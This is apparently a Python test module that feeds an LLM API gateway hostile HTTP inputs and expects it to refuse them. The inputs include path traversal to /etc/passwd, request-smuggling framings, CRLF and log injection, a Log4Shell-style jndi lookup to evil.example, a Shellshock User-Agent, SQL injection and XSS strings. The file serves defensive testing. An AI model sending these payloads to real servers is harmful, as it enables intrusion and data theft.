"""Request lines, headers and framings that no honest client sends."""

from collections.abc import Iterator, Mapping

import orjson

from tests.hostile.cases import Case, post, request
from tests.hostile.dialects import DIALECTS, KEY
from tests.hostile.test_headers import AUTH, BAD_CHUNKS, HOST, LINE, NO_REQUEST, STRANGE_HOSTS, TOO_LARGE
from tests.hostile.test_headers import request as bare

MARK = "marked-by-the-attacker"
_REFUSED = frozenset({400, 401, 403, 404, 405})

URLS: Mapping[str, tuple[str, frozenset[int]]] = {
    "dots": ("/v1/../livez", frozenset({400, 404})),
    "encoded dots": ("/v1/%2e%2e/livez", frozenset({400, 404})),
    "an encoded slash": ("/v1%2fmodels", frozenset({404})),
    "encoded dots and slashes": ("/v1/models/..%2f..%2f..%2fetc%2fpasswd", frozenset({404})),
    "dots in a model": ("/v1beta/models/../../etc/passwd:generateContent", frozenset({404, 405})),
    "two slashes": ("//v1/models", frozenset({404})),
    "two slashes within": ("/v1//models", frozenset({404})),
    "a slash at the end": ("/v1/models/", frozenset({404})),
    "a semicolon": ("/v1/models;a=b", frozenset({404})),
    "a backslash": ("/v1\\models", frozenset({400, 404})),
    "NUL": ("/v1/models%00", frozenset({400, 404})),
    "NUL in a name": ("/v1/models/a%00b", frozenset({400, 404})),
    "no UTF-8": ("/v1/models/%ff%fe", frozenset({400, 404})),
    "an overlong slash": ("/v1/models/%c0%af", frozenset({400, 404})),
    "half an escape": ("/v1/models/%4", frozenset({400, 404})),
    "a bad escape": ("/v1/models/%zz", frozenset({400, 404})),
    "a double escape": ("/v1/models/%252e%252e", frozenset({404})),
    "a line break": (f"/v1/models/a%0d%0aset-cookie:%20{MARK[:6]}", frozenset({400, 404})),
    "upper case": ("/V1/MODELS", frozenset({404})),
    "a fragment": ("/v1/models#x", frozenset({200, 400})),
    "another host": ("http://evil.example/v1/models", frozenset({200, 400, 403})),
    "another scheme": ("ftp://localhost/v1/models", frozenset({200, 400, 403, 404})),
    "a file": ("file:///etc/passwd", frozenset({400, 403, 404})),
    "a host after two slashes": ("//evil.example/v1/models", frozenset({404})),
    "a user": ("http://a:b@localhost/v1/models", frozenset({200, 400, 403})),
    "a port that is none": ("http://localhost:99999/v1/models", frozenset({200, 400, 403})),
    "a broken IPv6 address": ("http://[::1/v1/models", frozenset({400, 403})),
    "a star": ("*", frozenset({400, 404, 405})),
    "nothing": ("", frozenset({400, 404})),
    "no slash": ("v1/models", frozenset({400, 404})),
    "a pool that is not there": ("/nobody/v1/models", frozenset({404})),
    "a thousand segments": ("/a" * 1000, frozenset({404})),
    "a script": ("/<script>alert(1)</script>", frozenset({400, 404})),
    "a format": ("/v1/models/%25s%25n%7b0%7d", frozenset({404})),
    "a query of brackets": ("/v1/models?a[__proto__]=1&b[]=2", frozenset({200})),
    "a thousand parameters": ("/v1/models?" + "a=1&" * 1000, frozenset({200})),
    "two keys": (f"/v1/models?key={KEY}&key=other", frozenset({200, 400})),
    "the console": ("/admin", frozenset({404})),
    "the configuration": ("/.env", frozenset({404})),
    "the metrics": ("/metrics", frozenset({404})),
    "a debugger": ("/debug/pprof", frozenset({404})),
}

METHODS = ("GET", "PUT", "DELETE", "PATCH", "TRACE", "CONNECT", "OPTIONS", "PROPFIND", "MARKED", "get")


def url_cases() -> Iterator[Case]:
    """Group url-paths."""
    for name, (url, statuses) in URLS.items():
        yield Case("url-paths", name, (request(f"GET {url}"),), statuses)
    for dialect in DIALECTS.values():
        path, _ = dialect.said_to(dialect.foreign)
        for method in METHODS:
            # A name may hold a colon: to a GET this one is a model like any other behind its pattern.
            named = {200} if (method, dialect.name) == ("GET", "gemini") else set()
            statuses = frozenset({400, 404, 405} | named)
            yield Case("url-paths", f"{method}, {dialect.name}", (request(f"{method} {path}"),), statuses)


def framing_cases() -> Iterator[Case]:
    """Group smuggling: what one reader takes for one request, another for two."""
    for name, data in NO_REQUEST.items():
        yield Case("smuggling", name, (data,), frozenset({400, 403}))
    for name, body in BAD_CHUNKS.items():
        said = bare(LINE, HOST, AUTH, "Transfer-Encoding: chunked", body=body)
        yield Case("smuggling", name, (said,), frozenset({400}))
    for dialect in DIALECTS.values():
        path, whole = dialect.said_to(dialect.foreign)
        yield from _framing_cases(path, orjson.dumps(whole), dialect.name)


def _framing_cases(path: str, body: bytes, dialect: str) -> Iterator[Case]:
    chunked = b"%x\r\n%b\r\n0\r\n\r\n" % (len(body), body)
    inner = request("GET /v1/models")
    once, refused, either = frozenset({200}), frozenset({400}), frozenset({200, 400})
    coding = "Transfer-Encoding: chunked"
    forms: Mapping[str, tuple[tuple[str, ...], bytes, frozenset[int], int]] = {
        "chunks": ((coding,), chunked, once, 1),
        "chunks in upper case": (("TRANSFER-ENCODING: CHUNKED",), chunked, once, 1),
        "one length twice": ((f"Content-Length: {len(body)}",) * 2, body, either, 1),
        "a length and chunks": ((f"Content-Length: {len(body)}", coding), chunked, refused, 1),
        "a vertical tab": (("Transfer-Encoding: \x0bchunked",), chunked, refused, 1),
        "a coding of two": (("Transfer-Encoding: gzip, chunked",), chunked, either, 1),
        "a chunk's extension": ((coding,), chunked.replace(b"\r\n", b";a=b\r\n", 1), either, 1),
        "a long extension": (
            (coding,),
            chunked.replace(b"\r\n", b";" + b"a" * 20_000 + b"\r\n", 1),
            either,
            1,
        ),
        "a chunk ended by LF": ((coding,), chunked.replace(b"\r\n", b"\n", 1), refused, 1),
        "a size in 0x": ((coding,), b"0x" + chunked, refused, 1),
        "a size with a blank": ((coding,), b" " + chunked, refused, 1),
        "a size with a low line": ((coding,), chunked.replace(b"\r\n", b"_0\r\n", 1), refused, 1),
        "trailers": ((coding,), chunked[:-2] + b"x-mark: a\r\nContent-Length: 9\r\n\r\n", either, 1),
        "a request behind the chunks": ((coding,), chunked + inner, once, 2),
        "a request behind the body": ((f"Content-Length: {len(body)}",), body + inner, once, 2),
        "a request in place of a body": (("Content-Length: 0",), inner, refused, 2),
        "a request within the body": ((f"Content-Length: {len(inner)}",), inner, refused, 1),
    }
    for name, (lines, sent, statuses, replies) in forms.items():
        said = request(f"POST {path}", *lines, body=sent)
        yield Case("smuggling", f"{name}, {dialect}", (said,), statuses, replies=replies)
    for name, said in {
        "lines ended by LF": post(path, body).replace(b"\r\n", b"\n"),
        "one line ended by LF": post(path, body).replace(b"\r\n", b"\n", 1),
        "a length of HTTP/1.0 with chunks": request(f"POST {path}", coding, body=chunked).replace(
            b"HTTP/1.1", b"HTTP/1.0"
        ),
    }.items():
        yield Case("smuggling", f"{name}, {dialect}", (said,), either)


def size_cases() -> Iterator[Case]:
    """Group size, as far as the header goes."""
    for name, data in TOO_LARGE.items():
        yield Case("size", name, (data,), frozenset({431, 408}))
    for dialect in DIALECTS.values():
        path, _ = dialect.said_to(dialect.foreign)
        for name, said in {
            "a long query": request(f"POST {path}?{'a' * 9000}"),
            "a long header": request(f"POST {path}", f"x-mark: {'a' * 17_000}"),
            "many long headers": request(f"POST {path}", *(f"x-{n}: {'a' * 1000}" for n in range(40))),
            "many headers": request(f"POST {path}", *(f"x-{n}: a" for n in range(200))),
        }.items():
            yield Case("size", f"{name}, {dialect.name}", (said,), frozenset({400, 431}))


def host_cases() -> Iterator[Case]:
    """Group host-confusion."""
    for host in STRANGE_HOSTS:
        said = request("GET /v1/models", host=host)
        yield Case("host-confusion", f"{host or 'nothing'}", (said,), frozenset({400, 403}))
    for name in ("X-Forwarded-Host", "X-Host", "Forwarded", "X-Original-URL", "X-Rewrite-URL"):
        value = "/livez" if name.endswith("URL") else "evil.example"
        said = request("GET /v1/models", f"{name}: {value}", key="")
        yield Case("host-confusion", f"{name} opens nothing", (said,), frozenset({401}))
    none = request("GET /v1/models").replace(b"Host: localhost\r\n", b"")
    yield Case("host-confusion", "no host", (none,), frozenset({400, 403}))


def auth_cases() -> Iterator[Case]:
    """Group auth: everything that is nearly a key."""
    shown: Mapping[str, tuple[str, ...]] = {
        "none": (),
        "empty": ("x-api-key: ",),
        "no token": ("Authorization: Bearer",),
        "a scheme alone": (f"Authorization: {KEY}",),
        "another scheme": (f"Authorization: Basic {KEY}",),
        "cut short": (f"x-api-key: {KEY[:-1]}",),
        "too long": (f"x-api-key: {KEY}a",),
        "twice in one": (f"x-api-key: {KEY}{KEY}",),
        "two in one": (f"x-api-key: {KEY}, {KEY}",),
        "upper case": (f"x-api-key: {KEY.upper()}",),
        "quoted": (f'x-api-key: "{KEY}"',),
        "a star": ("x-api-key: *",),
        "a percent sign": ("x-api-key: %",),
        "SQL": ("x-api-key: ' OR 1=1 --",),
        "letters beyond ASCII": ("x-api-key: \xe4\xf6\xfc",),
        "very long": (f"x-api-key: {'a' * 8000}",),
        "a cookie": (f"Cookie: x-api-key={KEY}",),
        "a proxy's header": (f"Proxy-Authorization: Bearer {KEY}",),
        "a name with low lines": (f"x_api_key: {KEY}",),
        "two that differ": (f"x-api-key: {KEY}", "x-api-key: other"),
    }
    for dialect in DIALECTS.values():
        path, whole = dialect.said_to(dialect.foreign)
        body = orjson.dumps({**whole, "api_key": KEY, "key": KEY})
        for name, lines in shown.items():
            said = post(f"{path}?api_key={KEY}&token={KEY}", body, *lines, key="")
            statuses = frozenset({400} if name == "two that differ" else {401})
            yield Case("auth", f"{name}, {dialect.name}", (said,), statuses, dialect.name)
        for name, (url, _) in URLS.items():
            if dialect.name == "openai_chat" and "key" not in url:
                yield Case("auth", f"no key, {name}", (request(f"GET {url}", key=""),), _REFUSED)


def injected_cases() -> Iterator[Case]:
    """Group inject: words that mean something else where they are repeated."""
    names = {
        "a line break": "gpt-test\r\nx-injected: 1",
        "a record of a log": 'gpt-test","level":"error","event":"owned',
        "a record of a stream": "gpt-test\n\ndata: [DONE]\n\n",
        "a script": "<script>alert(1)</script>",
        "a terminal's escape": "gpt-\x1b[2J\x1b]0;owned\x07",
        "a format": "gpt-%s%n{0.__class__}",
        "a lookup": "${jndi:ldap://evil.example/a}",
        "a path": "../../../../etc/passwd",
        "a host": "gpt-test@evil.example",
        "a query": "gpt-test?alt=sse#",
        "NUL": "gpt-\x00test",
        "right to left": "gpt-\u202etest",
        "a pool": "claude/../openai/gpt-test",
        "10,000 letters": "gpt-" + "a" * 10_000,
    }
    for dialect in DIALECTS.values():
        for name, model in names.items():
            if dialect.name == "gemini":
                continue
            path, whole = dialect.said_to(model)
            said = post(path, orjson.dumps(whole))
            yield Case(
                "inject", f"{name} as model, {dialect.name}", (said,), frozenset({200, 404}), dialect.name
            )
        path, whole = dialect.said_to(dialect.foreign)
        for name, line in {
            "an id of two lines": "x-request-id: a%0d%0ab",
            "an id of markup": "x-request-id: <b>marked-by-the-attacker</b>",
            "an id beyond ASCII": "x-request-id: \xe4marked-by-the-attacker",
            "a beta of controls": "anthropic-beta: a\tb",
            "a beta beyond ASCII": "anthropic-beta: \xe4",
            "a version of markup": "anthropic-version: <b>marked-by-the-attacker</b>",
            "an origin": "Origin: https://evil.example",
            "a content type": "Content-Type: marked-by-the-attacker/<b>",
            "an agent": "User-Agent: () { :; }; marked-by-the-attacker",
        }.items():
            for model in filter(None, (dialect.foreign, dialect.own)):
                path, whole = dialect.said_to(model)
                said = post(path, orjson.dumps(whole), line)
                statuses = frozenset({403} if name == "an origin" else {200})
                yield Case("inject", f"{name}, {dialect.name} {model}", (said,), statuses)
